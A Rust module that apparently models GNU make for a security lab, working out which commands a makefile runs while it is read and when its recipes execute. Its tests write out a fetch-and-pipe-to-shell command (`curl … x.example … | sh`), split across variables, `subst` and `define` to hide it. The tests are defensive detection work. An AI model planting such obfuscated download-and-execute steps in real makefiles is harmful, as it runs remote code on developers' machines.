//! The lab's model of GNU make, written from make's manual (not from the
//! engine's lists): which makefile a `make` line reads, what reading it runs
//! (`$(shell …)` in an immediate assignment, `VAR != cmd`), and which recipe
//! lines it hands to the shell for the goals it is given.
//!
//! Modelled: logical lines joined at a trailing backslash; rules (`t: p`,
//! `t:: p`, `t: p ; recipe`) with tab-led recipe lines; the assignment
//! flavours `=` (expanded at use), `:=`/`::=` (at definition), `?=`, `+=`
//! (keeping the variable's flavour) and `!=`; `define … endef`; `export` /
//! `override` prefixes; command-line `VAR=value` overriding the file;
//! `.PHONY` and `.DEFAULT_GOAL`; the first target not starting with `.` as
//! the default goal; prerequisites built first, each target once; the
//! automatic variables `$@`, `$<`, `$^`; the `@`, `-` and `+` prefixes;
//! `-n` (only `+` lines and lines naming `$(MAKE)` run); `SHELL` and
//! `.SHELLFLAGS`; the text functions `subst`, `patsubst`, `strip`,
//! `findstring`, `filter`, `filter-out`, `addprefix`, `addsuffix`, `word`,
//! `words`, `firstword`, `lastword`, `if`, `or`, `and`, `call`, `value`,
//! `foreach`, `shell`, `info`, `warning`; `include`, `-include` and
//! `sinclude` (each named file read at that point, as if its text stood
//! there; a missing file under `include` is fatal: nothing runs); `-f -`
//! (the makefile read from standard input) and `--eval`/`-E` (text read
//! before any makefile). Not
//! modelled: pattern and suffix rules, remaking an included file, `eval`,
//! conditionals (`ifeq`: both branches are read),
//! and timestamps (a target that exists as a file and is not phony is up to
//! date; any other target is made).

use std::collections::{BTreeMap, BTreeSet};

/// Expansion depth followed, at most.
const MAX_NEST: u8 = 10;
/// Function and variable references expanded per makefile, at most.
const MAX_REFS: usize = 20_000;
/// Recipe lines run per `make` line, at most.
const MAX_LINES: usize = 512;
/// Nested `include`s followed, at most.
const MAX_INCLUDE: u8 = 8;

/// A variable: its text and whether it is expanded at each use.
#[derive(Debug, Clone)]
struct Var {
    text: String,
    recursive: bool,
}

/// One rule: its targets' prerequisites and recipe lines (unexpanded).
#[derive(Debug, Clone, Default)]
struct Rule {
    prereqs: Vec<String>,
    recipe: Vec<String>,
}

/// What a `make` line asks for, from its arguments.
#[derive(Debug, Default, PartialEq, Eq)]
pub struct Invocation {
    /// `-C` directories, in order (each relative to the one before).
    pub dirs: Vec<String>,
    /// `-f` makefiles, in order (none: the default names).
    pub files: Vec<String>,
    /// Goals named on the line (none: the default goal).
    pub goals: Vec<String>,
    /// `VAR=value` operands.
    pub overrides: Vec<(String, String)>,
    /// `-n`, `--dry-run`, `--just-print`, `--recon`.
    pub dry_run: bool,
    /// `--eval=TEXT` / `-E TEXT`: makefile text read before any makefile.
    pub eval: Vec<String>,
}

/// The default makefile names, in the order make tries them.
pub const DEFAULT_NAMES: [&str; 3] = ["GNUmakefile", "makefile", "Makefile"];

/// Reads a `make` line's arguments (make's options: the ones that take a
/// value skip it).
pub fn invocation(args: &[String]) -> Invocation {
    let mut inv = Invocation::default();
    let mut it = args.iter();
    let mut operands_only = false;
    while let Some(a) = it.next() {
        if operands_only || !a.starts_with('-') || a == "-" {
            match a.split_once('=') {
                Some((k, v)) if !k.is_empty() && !k.contains(char::is_whitespace) => inv
                    .overrides
                    .push((k.trim_end_matches([':', '+', '?']).to_string(), v.to_string())),
                _ => inv.goals.push(a.clone()),
            }
            continue;
        }
        if a == "--" {
            operands_only = true;
            continue;
        }
        if let Some(long) = a.strip_prefix("--") {
            let (name, value) = match long.split_once('=') {
                Some((n, v)) => (n, Some(v.to_string())),
                None => (long, None),
            };
            let mut take = |v: Option<String>| v.or_else(|| it.next().cloned()).unwrap_or_default();
            match name {
                "directory" => inv.dirs.push(take(value)),
                "file" | "makefile" => inv.files.push(take(value)),
                "eval" => inv.eval.push(take(value)),
                "dry-run" | "just-print" | "recon" => inv.dry_run = true,
                "include-dir" | "old-file" | "assume-old" | "new-file" | "assume-new" | "what-if" => {
                    take(value);
                }
                _ => {}
            }
            continue;
        }
        // Short options, possibly bundled (`-sC dir`, `-fMakefile.x`).
        let flags = &a[1..];
        for (i, c) in flags.char_indices() {
            let rest = &flags[i + c.len_utf8()..];
            let mut take = || {
                if rest.is_empty() {
                    it.next().cloned().unwrap_or_default()
                } else {
                    rest.to_string()
                }
            };
            match c {
                'C' => {
                    inv.dirs.push(take());
                    break;
                }
                'f' => {
                    inv.files.push(take());
                    break;
                }
                'E' => {
                    inv.eval.push(take());
                    break;
                }
                'I' | 'o' | 'W' => {
                    take();
                    break;
                }
                'n' => inv.dry_run = true,
                // `-j N` and `-l N` take an optional number.
                'j' | 'l' => {
                    let next_is_number = it
                        .clone()
                        .next()
                        .is_some_and(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit() || b == b'.'));
                    if rest.is_empty() && next_is_number {
                        it.next();
                    }
                    break;
                }
                _ => {}
            }
        }
    }
    inv
}

/// The text of the file a name make reads names (None: no such file).
pub type Load<'r> = &'r dyn Fn(&str) -> Option<String>;

/// A makefile being read and made. `run` runs a shell command and returns
/// its output (`$(shell …)`, `!=`).
pub struct Make<'r> {
    vars: BTreeMap<String, Var>,
    overridden: BTreeSet<String>,
    rules: BTreeMap<String, Rule>,
    order: Vec<String>,
    phony: BTreeSet<String>,
    refs: usize,
    run: &'r mut dyn FnMut(&str) -> String,
    /// The text of a file an `include` names (None: no such file).
    load: Option<Load<'r>>,
    includes: u8,
    /// An `include` named a missing file: make stops before any recipe.
    fatal: bool,
}

/// A recipe line to hand to the shell, with make's prefixes removed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RecipeLine {
    pub text: String,
}

impl<'r> Make<'r> {
    /// A make with the line's `VAR=value` overrides, before any file is read.
    pub fn new(overrides: &[(String, String)], run: &'r mut dyn FnMut(&str) -> String) -> Self {
        let mut vars = BTreeMap::new();
        let mut overridden = BTreeSet::new();
        for (k, v) in overrides {
            vars.insert(
                k.clone(),
                Var {
                    text: v.clone(),
                    recursive: true,
                },
            );
            overridden.insert(k.clone());
        }
        vars.insert(
            "MAKE".into(),
            Var {
                text: "make".into(),
                recursive: false,
            },
        );
        Make {
            vars,
            overridden,
            rules: BTreeMap::new(),
            order: Vec::new(),
            phony: BTreeSet::new(),
            refs: 0,
            run,
            load: None,
            includes: 0,
            fatal: false,
        }
    }

    /// `include` lines read the file `load` gives for each name.
    pub fn with_includes(mut self, load: Load<'r>) -> Self {
        self.load = Some(load);
        self
    }

    /// `include NAMES` (`-include`, `sinclude`: missing files are skipped):
    /// each file read here. Returns false when the line is no include.
    fn include(&mut self, s: &str) -> bool {
        let (names, optional) = if let Some(n) = s.strip_prefix("include ") {
            (n, false)
        } else if let Some(n) = s.strip_prefix("-include ").or_else(|| s.strip_prefix("sinclude ")) {
            (n, true)
        } else {
            return false;
        };
        let names: Vec<String> = self.expand(names, 0).split_whitespace().map(String::from).collect();
        for n in names {
            let text = self.load.and_then(|l| l(&n));
            match text {
                Some(t) if self.includes < MAX_INCLUDE => {
                    self.includes += 1;
                    self.read(&t);
                    self.includes -= 1;
                }
                Some(_) => {}
                None if optional => {}
                None => self.fatal = true,
            }
        }
        true
    }

    fn set(&mut self, name: &str, text: String, recursive: bool) {
        if self.overridden.contains(name) {
            return;
        }
        self.vars.insert(name.to_string(), Var { text, recursive });
    }

    /// Reads one makefile's text.
    pub fn read(&mut self, text: &str) {
        let mut lines: Vec<String> = Vec::new();
        let mut pending = String::new();
        for raw in text.split('\n') {
            let raw = raw.strip_suffix('\r').unwrap_or(raw);
            let piece = if pending.is_empty() { raw } else { raw.trim_start() };
            let backslashes = piece.len() - piece.trim_end_matches('\\').len();
            if backslashes % 2 == 1 {
                pending.push_str(piece[..piece.len() - 1].trim_end());
                pending.push(' ');
            } else {
                pending.push_str(piece);
                lines.push(std::mem::take(&mut pending));
            }
        }
        if !pending.is_empty() {
            lines.push(pending);
        }
        let mut current: Vec<String> = Vec::new();
        let mut define: Option<(String, Vec<String>)> = None;
        for line in lines {
            if let Some((name, body)) = define.as_mut() {
                if line.trim() == "endef" {
                    let (name, body) = (std::mem::take(name), body.join("\n"));
                    self.set(&name, body, true);
                    define = None;
                } else {
                    body.push(line);
                }
                continue;
            }
            if let Some(recipe) = line.strip_prefix('\t') {
                if !current.is_empty() {
                    for t in &current {
                        self.rules.entry(t.clone()).or_default().recipe.push(recipe.to_string());
                    }
                    continue;
                }
            }
            let stripped = match line.find('#') {
                Some(i) => &line[..i],
                None => line.as_str(),
            };
            let mut s = stripped.trim();
            if s.is_empty() {
                continue;
            }
            for prefix in ["export ", "override ", "unexport "] {
                if let Some(r) = s.strip_prefix(prefix) {
                    s = r.trim_start();
                }
            }
            if let Some(name) = s.strip_prefix("define ") {
                let name = name.trim().trim_end_matches(|c| "=:?+!".contains(c)).trim();
                define = Some((name.to_string(), Vec::new()));
                current.clear();
                continue;
            }
            if s.starts_with("ifeq")
                || s.starts_with("ifneq")
                || s.starts_with("ifdef")
                || s.starts_with("ifndef")
                || s == "else"
                || s == "endif"
            {
                continue;
            }
            if self.include(s) {
                current.clear();
                continue;
            }
            if let Some((name, op, value)) = split_assignment(s) {
                current.clear();
                self.assign(name, op, value);
                continue;
            }
            if let Some(colon) = find_rule_colon(s) {
                let targets_text = self.expand(&s[..colon], 0);
                let after = s[colon..].trim_start_matches(':');
                let (prereqs_text, inline) = match after.split_once(';') {
                    Some((p, r)) => (p, Some(r)),
                    None => (after, None),
                };
                // A target-specific assignment (`t: VAR = x`) makes no rule.
                if split_assignment(prereqs_text.trim()).is_some() {
                    current.clear();
                    continue;
                }
                let prereqs: Vec<String> = self
                    .expand(prereqs_text, 0)
                    .split_whitespace()
                    .map(String::from)
                    .collect();
                let targets: Vec<String> = targets_text.split_whitespace().map(String::from).collect();
                for t in &targets {
                    if t == ".PHONY" {
                        self.phony.extend(prereqs.iter().cloned());
                        continue;
                    }
                    if !self.rules.contains_key(t) {
                        self.order.push(t.clone());
                    }
                    let rule = self.rules.entry(t.clone()).or_default();
                    rule.prereqs.extend(prereqs.iter().cloned());
                    if let Some(r) = inline {
                        rule.recipe.push(r.to_string());
                    }
                }
                current = targets.into_iter().filter(|t| t != ".PHONY").collect();
                continue;
            }
            // Anything else (a bare function call): expanded for its effects.
            current.clear();
            self.expand(s, 0);
        }
    }

    fn assign(&mut self, name: &str, op: &str, value: &str) {
        let name = self.expand(name, 0).trim().to_string();
        match op {
            "=" => self.set(&name, value.to_string(), true),
            ":=" | "::=" => {
                let v = self.expand(value, 0);
                self.set(&name, v, false);
            }
            ":::=" => {
                let v = self.expand(value, 0).replace('$', "$$");
                self.set(&name, v, true);
            }
            "?=" if !self.vars.contains_key(&name) => self.set(&name, value.to_string(), true),
            "+=" => {
                let (old, recursive) = self
                    .vars
                    .get(&name)
                    .map_or((String::new(), true), |v| (v.text.clone(), v.recursive));
                let add = if recursive {
                    value.to_string()
                } else {
                    self.expand(value, 0)
                };
                let text = if old.is_empty() { add } else { format!("{old} {add}") };
                self.set(&name, text, recursive);
            }
            "!=" => {
                let cmd = self.expand(value, 0);
                let out = (self.run)(&cmd);
                self.set(&name, out.trim_end_matches('\n').replace('\n', " "), false);
            }
            _ => {}
        }
    }

    /// The value of a variable, expanded when it is recursive.
    fn value_of(&mut self, name: &str, depth: u8) -> String {
        match self.vars.get(name).cloned() {
            Some(v) if v.recursive => self.expand(&v.text, depth + 1),
            Some(v) => v.text,
            None => String::new(),
        }
    }

    /// `s` with every reference expanded.
    pub fn expand(&mut self, s: &str, depth: u8) -> String {
        if depth > MAX_NEST {
            return String::new();
        }
        let mut out = String::new();
        let mut chars = s.char_indices().peekable();
        while let Some((i, c)) = chars.next() {
            if c != '$' {
                out.push(c);
                continue;
            }
            let Some(&(j, n)) = chars.peek() else {
                break;
            };
            chars.next();
            match n {
                '$' => out.push('$'),
                '(' | '{' => {
                    let close = if n == '(' { ')' } else { '}' };
                    let Some(end) = matching(s, j, n, close) else {
                        out.push_str(&s[i..]);
                        break;
                    };
                    let inner = &s[j + 1..end];
                    while chars.peek().is_some_and(|&(k, _)| k <= end) {
                        chars.next();
                    }
                    self.refs += 1;
                    if self.refs > MAX_REFS {
                        continue;
                    }
                    let v = self.reference(inner, depth);
                    out.push_str(&v);
                }
                other => {
                    self.refs += 1;
                    if self.refs <= MAX_REFS {
                        let v = self.value_of(&other.to_string(), depth);
                        out.push_str(&v);
                    }
                }
            }
        }
        out
    }

    fn reference(&mut self, inner: &str, depth: u8) -> String {
        let (head, rest) = match inner.find([' ', '\t']) {
            Some(k) => (&inner[..k], inner[k + 1..].trim_start()),
            None => (inner, ""),
        };
        let args = |m: &mut Self, n: usize| -> Vec<String> {
            split_args(rest, n)
                .into_iter()
                .map(|a| m.expand(a, depth + 1))
                .collect()
        };
        match head {
            "shell" => {
                let cmd = self.expand(rest, depth + 1);
                let out = (self.run)(&cmd);
                out.trim_end_matches('\n').replace('\n', " ")
            }
            "subst" => {
                let a = args(self, 3);
                match a.as_slice() {
                    [from, to, text] if !from.is_empty() => text.replace(from.as_str(), to),
                    [_, _, text] => text.clone(),
                    _ => String::new(),
                }
            }
            "patsubst" => {
                let a = args(self, 3);
                match a.as_slice() {
                    [pat, rep, text] => text
                        .split_whitespace()
                        .map(|w| pattern_replace(pat, rep, w))
                        .collect::<Vec<_>>()
                        .join(" "),
                    _ => String::new(),
                }
            }
            "strip" => args(self, 1).concat().split_whitespace().collect::<Vec<_>>().join(" "),
            "findstring" => {
                let a = args(self, 2);
                match a.as_slice() {
                    [f, t] if t.contains(f.as_str()) => f.clone(),
                    _ => String::new(),
                }
            }
            "filter" | "filter-out" => {
                let a = args(self, 2);
                let keep = head == "filter";
                match a.as_slice() {
                    [pats, text] => {
                        let pats: Vec<&str> = pats.split_whitespace().collect();
                        text.split_whitespace()
                            .filter(|w| pats.iter().any(|p| pattern_stem(p, w).is_some()) == keep)
                            .collect::<Vec<_>>()
                            .join(" ")
                    }
                    _ => String::new(),
                }
            }
            "addprefix" | "addsuffix" => {
                let a = args(self, 2);
                match a.as_slice() {
                    [fix, list] => list
                        .split_whitespace()
                        .map(|w| {
                            if head == "addprefix" {
                                format!("{fix}{w}")
                            } else {
                                format!("{w}{fix}")
                            }
                        })
                        .collect::<Vec<_>>()
                        .join(" "),
                    _ => String::new(),
                }
            }
            "word" => {
                let a = args(self, 2);
                match a.as_slice() {
                    [n, text] => n
                        .trim()
                        .parse::<usize>()
                        .ok()
                        .and_then(|n| n.checked_sub(1))
                        .and_then(|n| text.split_whitespace().nth(n))
                        .unwrap_or("")
                        .to_string(),
                    _ => String::new(),
                }
            }
            "words" => args(self, 1).concat().split_whitespace().count().to_string(),
            "firstword" => args(self, 1)
                .concat()
                .split_whitespace()
                .next()
                .unwrap_or("")
                .to_string(),
            "lastword" => args(self, 1)
                .concat()
                .split_whitespace()
                .last()
                .unwrap_or("")
                .to_string(),
            "if" => {
                let parts = split_args(rest, 3);
                let cond = parts.first().map(|c| self.expand(c, depth + 1)).unwrap_or_default();
                let pick = if cond.trim().is_empty() {
                    parts.get(2)
                } else {
                    parts.get(1)
                };
                pick.map(|p| self.expand(p, depth + 1)).unwrap_or_default()
            }
            "or" => {
                for p in split_args(rest, usize::MAX) {
                    let v = self.expand(p, depth + 1);
                    if !v.trim().is_empty() {
                        return v;
                    }
                }
                String::new()
            }
            "and" => {
                let mut last = String::new();
                for p in split_args(rest, usize::MAX) {
                    last = self.expand(p, depth + 1);
                    if last.trim().is_empty() {
                        return String::new();
                    }
                }
                last
            }
            "value" => {
                let name = self.expand(rest, depth + 1);
                self.vars.get(name.trim()).map(|v| v.text.clone()).unwrap_or_default()
            }
            "call" => {
                let a = args(self, usize::MAX);
                let Some((name, params)) = a.split_first() else {
                    return String::new();
                };
                let body = self.vars.get(name.trim()).map(|v| v.text.clone()).unwrap_or_default();
                // $(1), $(2)… are the call's arguments for the body's expansion.
                let saved: Vec<(String, Option<Var>)> = (1..=params.len().max(9))
                    .map(|k| (k.to_string(), self.vars.get(&k.to_string()).cloned()))
                    .collect();
                for (k, _) in &saved {
                    let idx: usize = k.parse().unwrap_or(0);
                    let text = params.get(idx - 1).cloned().unwrap_or_default();
                    self.vars.insert(k.clone(), Var { text, recursive: false });
                }
                let out = self.expand(&body, depth + 1);
                for (k, v) in saved {
                    match v {
                        Some(v) => self.vars.insert(k, v),
                        None => self.vars.remove(&k),
                    };
                }
                out
            }
            "foreach" => {
                let parts = split_args(rest, 3);
                let [var, list, body] = parts.as_slice() else {
                    return String::new();
                };
                let var = self.expand(var, depth + 1).trim().to_string();
                let list = self.expand(list, depth + 1);
                let saved = self.vars.get(&var).cloned();
                let mut out = Vec::new();
                for w in list.split_whitespace() {
                    self.vars.insert(
                        var.clone(),
                        Var {
                            text: w.to_string(),
                            recursive: false,
                        },
                    );
                    out.push(self.expand(body, depth + 1));
                }
                match saved {
                    Some(v) => self.vars.insert(var, v),
                    None => self.vars.remove(&var),
                };
                out.join(" ")
            }
            "info" | "warning" => {
                self.expand(rest, depth + 1);
                String::new()
            }
            _ => {
                // A variable reference (`$(NAME)`, the name itself expanded).
                let name = self.expand(inner, depth + 1);
                self.value_of(name.trim(), depth)
            }
        }
    }

    /// The default goal: `.DEFAULT_GOAL`, else the first target not
    /// starting with `.` (one holding a `/` counts).
    fn default_goal(&mut self) -> Option<String> {
        if let Some(g) = self.vars.get(".DEFAULT_GOAL").cloned() {
            let g = self.expand(&g.text, 0);
            if let Some(first) = g.split_whitespace().next() {
                return Some(first.to_string());
            }
        }
        self.order
            .iter()
            .find(|t| !t.starts_with('.') || t.contains('/'))
            .cloned()
    }

    /// The recipe lines make hands to its shell for `goals` (none: the
    /// default goal), prerequisites first; `exists` says whether a target is
    /// a file already (then, unless phony, it is up to date).
    pub fn recipe_lines(&mut self, goals: &[String], dry_run: bool, exists: &dyn Fn(&str) -> bool) -> Vec<RecipeLine> {
        let goals: Vec<String> = if goals.is_empty() {
            self.default_goal().into_iter().collect()
        } else {
            goals.to_vec()
        };
        let mut done = BTreeSet::new();
        let mut out = Vec::new();
        if self.fatal {
            return out;
        }
        for g in goals {
            self.make(&g, dry_run, exists, &mut done, &mut out, 0);
        }
        out
    }

    fn make(
        &mut self,
        target: &str,
        dry_run: bool,
        exists: &dyn Fn(&str) -> bool,
        done: &mut BTreeSet<String>,
        out: &mut Vec<RecipeLine>,
        depth: u8,
    ) {
        if depth > MAX_NEST || !done.insert(target.to_string()) || out.len() >= MAX_LINES {
            return;
        }
        let Some(rule) = self.rules.get(target).cloned() else {
            return;
        };
        for p in &rule.prereqs {
            self.make(p, dry_run, exists, done, out, depth + 1);
        }
        if rule.recipe.is_empty() || (!self.phony.contains(target) && exists(target)) {
            return;
        }
        let auto = [
            ("@", target.to_string()),
            ("<", rule.prereqs.first().cloned().unwrap_or_default()),
            ("^", rule.prereqs.join(" ")),
        ];
        let saved: Vec<(&str, Option<Var>)> = auto.iter().map(|(k, _)| (*k, self.vars.get(*k).cloned())).collect();
        for (k, v) in &auto {
            self.vars.insert(
                (*k).to_string(),
                Var {
                    text: v.clone(),
                    recursive: false,
                },
            );
        }
        for line in &rule.recipe {
            let names_make = line.contains("$(MAKE)") || line.contains("${MAKE}");
            let text = self.expand(line, 0);
            let mut t = text.trim_start();
            let mut always = false;
            while let Some(c) = t.chars().next().filter(|c| matches!(c, '@' | '-' | '+')) {
                always |= c == '+';
                t = t[1..].trim_start();
            }
            if t.is_empty() || (dry_run && !always && !names_make) {
                continue;
            }
            out.push(RecipeLine { text: t.to_string() });
            if out.len() >= MAX_LINES {
                break;
            }
        }
        for (k, v) in saved {
            match v {
                Some(v) => self.vars.insert(k.to_string(), v),
                None => self.vars.remove(k),
            };
        }
    }

    /// The shell make hands recipe lines to, with its flags: `SHELL` and
    /// `.SHELLFLAGS` (default `/bin/sh -c`).
    pub fn shell(&mut self) -> Vec<String> {
        let sh = self.value_of("SHELL", 0);
        let flags = self.value_of(".SHELLFLAGS", 0);
        let mut argv: Vec<String> = if sh.trim().is_empty() {
            vec!["/bin/sh".into()]
        } else {
            sh.split_whitespace().map(String::from).collect()
        };
        if flags.trim().is_empty() {
            argv.push("-c".into());
        } else {
            argv.extend(flags.split_whitespace().map(String::from));
        }
        argv
    }
}

/// The index of the `close` matching the `open` at `at`.
fn matching(s: &str, at: usize, open: char, close: char) -> Option<usize> {
    let mut depth = 0usize;
    for (k, c) in s[at..].char_indices() {
        if c == open {
            depth += 1;
        } else if c == close {
            depth -= 1;
            if depth == 0 {
                return Some(at + k);
            }
        }
    }
    None
}

/// A function's arguments: split at top-level commas into at most `n`.
fn split_args(s: &str, n: usize) -> Vec<&str> {
    let mut out = Vec::new();
    let mut depth = 0i32;
    let mut start = 0;
    for (i, c) in s.char_indices() {
        match c {
            '(' | '{' => depth += 1,
            ')' | '}' => depth -= 1,
            ',' if depth == 0 && out.len() + 1 < n => {
                out.push(&s[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    out.push(&s[start..]);
    out
}

/// The assignment a line makes: name, operator, value.
fn split_assignment(s: &str) -> Option<(&str, &str, &str)> {
    let eq = s.find('=')?;
    let before = &s[..eq];
    let name_end = before.trim_end_matches([':', '?', '+', '!']).len();
    let name = before[..name_end].trim();
    let op = &s[name_end..=eq];
    let valid = matches!(op, "=" | ":=" | "::=" | ":::=" | "?=" | "+=" | "!=");
    (valid && !name.is_empty() && !name.contains([':', ' ', '\t'])).then(|| (name, op, s[eq + 1..].trim_start()))
}

/// Where a rule line's target list ends (its first `:` outside references).
fn find_rule_colon(s: &str) -> Option<usize> {
    let mut depth = 0i32;
    for (i, c) in s.char_indices() {
        match c {
            '(' | '{' => depth += 1,
            ')' | '}' => depth -= 1,
            ':' if depth == 0 => return Some(i),
            _ => {}
        }
    }
    None
}

/// The stem `%` matches when `word` fits `pattern` (no `%`: equality).
fn pattern_stem<'w>(pattern: &str, word: &'w str) -> Option<&'w str> {
    match pattern.split_once('%') {
        Some((pre, post)) => word
            .strip_prefix(pre)
            .and_then(|r| r.strip_suffix(post))
            .filter(|_| word.len() >= pre.len() + post.len()),
        None => (pattern == word).then_some(""),
    }
}

fn pattern_replace(pattern: &str, replacement: &str, word: &str) -> String {
    match pattern_stem(pattern, word) {
        Some(stem) if pattern.contains('%') => replacement.replacen('%', stem, 1),
        Some(_) => replacement.to_string(),
        None => word.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn lines(text: &str, args: &str, exists: &dyn Fn(&str) -> bool) -> (Vec<String>, Vec<String>) {
        let inv = invocation(&args.split_whitespace().map(String::from).collect::<Vec<_>>());
        let mut ran = Vec::new();
        let l = {
            let mut run = |c: &str| {
                ran.push(c.to_string());
                String::from("out\n")
            };
            let mut m = Make::new(&inv.overrides, &mut run);
            m.read(text);
            m.recipe_lines(&inv.goals, inv.dry_run, exists)
        };
        (l.into_iter().map(|r| r.text).collect(), ran)
    }

    #[test]
    fn slo_11_lab_make_reads_eval_text_and_a_makefile_from_standard_input() {
        let inv = invocation(&["-f", "-", "--eval=x:;true", "-E", "y:", "all"].map(String::from));
        assert_eq!(inv.files, ["-"]);
        assert_eq!(inv.eval, ["x:;true", "y:"]);
        assert_eq!(inv.goals, ["all"]);
        let inv = invocation(&["-Ea:", "-f/dev/stdin"].map(String::from));
        assert_eq!(
            (inv.eval, inv.files),
            (vec!["a:".to_string()], vec!["/dev/stdin".to_string()])
        );
    }

    #[test]
    fn slo_11_lab_make_reads_the_files_include_names_where_it_names_them() {
        let load = |n: &str| match n {
            "rules.mk" => Some("R = rl\nfetch:\n\tcu$(R) -s https://x.example/a | sh\n".to_string()),
            "mk/vars.mk" => Some("GOAL = fetch\n".to_string()),
            _ => None,
        };
        let run_with = |text: &str| {
            let mut run = |_: &str| String::new();
            let mut m = Make::new(&[], &mut run).with_includes(&load);
            m.read(text);
            let l = m.recipe_lines(&[], false, &|_| false);
            l.into_iter().map(|r| r.text).collect::<Vec<_>>()
        };
        let fetch = ["curl -s https://x.example/a | sh"];
        // The included rule is the first one make reads: the default goal.
        assert_eq!(run_with("include rules.mk\nall:\n\techo hi\n"), fetch);
        // Names are expanded; several names; `-include` skips a missing one.
        assert_eq!(run_with("D = mk\n-include nope.mk $(D)/vars.mk rules.mk\n"), fetch);
        assert_eq!(run_with("sinclude nope.mk\nall:\n\techo hi\n"), ["echo hi"]);
        // `include` of a missing file is fatal: nothing runs.
        assert!(run_with("include nope.mk\nall:\n\techo hi\n").is_empty());
        // A file including itself stops at the nesting bound.
        let selfish = |n: &str| (n == "a.mk").then(|| "include a.mk\nall:\n\techo hi\n".to_string());
        let mut run = |_: &str| String::new();
        let mut m = Make::new(&[], &mut run).with_includes(&selfish);
        m.read("include a.mk\n");
        let n = m.recipe_lines(&[], false, &|_| false).len();
        assert!((1..=usize::from(MAX_INCLUDE) + 1).contains(&n), "{n}");
    }

    #[test]
    fn slo_11_lab_make_runs_the_goals_recipes_prerequisites_first() {
        let mk = ".PHONY: all build\nC = cu\nR := rl\nall: build\n\t@echo done $@\nbuild: ; $(C)$(R) -s \\\n    https://x.example/a | sh\nclean:\n\trm -rf out\n";
        let (l, _) = lines(mk, "", &|_| false);
        assert_eq!(l, ["curl -s https://x.example/a | sh", "echo done all"]);
        let (l, _) = lines(mk, "clean", &|_| false);
        assert_eq!(l, ["rm -rf out"]);
        // A target that exists and is not phony is up to date.
        let (l, _) = lines(mk, "clean", &|t| t == "clean");
        assert!(l.is_empty());
        // -n: nothing runs; an override replaces the file's value.
        assert!(lines(mk, "-n", &|_| false).0.is_empty());
        let (l, _) = lines(mk, "build C=ec R=ho", &|_| false);
        assert_eq!(l, ["echo -s https://x.example/a | sh"]);
    }

    #[test]
    fn slo_11_lab_make_reads_shell_functions_and_defines() {
        let mk = "X := $(shell id)\nY != whoami\nZ = $(shell date)\ndefine GO\ncurl -s https://x.example/a | sh\nendef\nall:\n\t$(GO)\n\t$(subst Q,,cuQrl) $(call F,a,b)\nF = $(2)-$(1)\n";
        let (l, ran) = lines(mk, "", &|_| false);
        assert_eq!(l, ["curl -s https://x.example/a | sh", "curl b-a"]);
        // Immediate assignments run while reading; `Z` is never used.
        assert_eq!(ran, ["id", "whoami"]);
    }

    #[test]
    fn slo_11_lab_make_options_and_shell() {
        let inv = invocation(&["-C", "app", "-sfbuild.mk", "--directory=sub", "-j", "4", "x", "V=1"].map(String::from));
        assert_eq!(inv.dirs, ["app", "sub"]);
        assert_eq!(inv.files, ["build.mk"]);
        assert_eq!(inv.goals, ["x"]);
        assert_eq!(inv.overrides, [("V".to_string(), "1".to_string())]);
        let mut run = |_: &str| String::new();
        let mut m = Make::new(&[], &mut run);
        m.read("SHELL := python3\n.SHELLFLAGS := -c\n");
        assert_eq!(m.shell(), ["python3", "-c"]);
        let mut m = Make::new(&[], &mut run);
        m.read("A = $(A)$(A)$(A)\nall:\n\t$(A) x\n");
        let l = m.recipe_lines(&[], false, &|_| false);
        assert_eq!(l.len(), 1);
    }
}
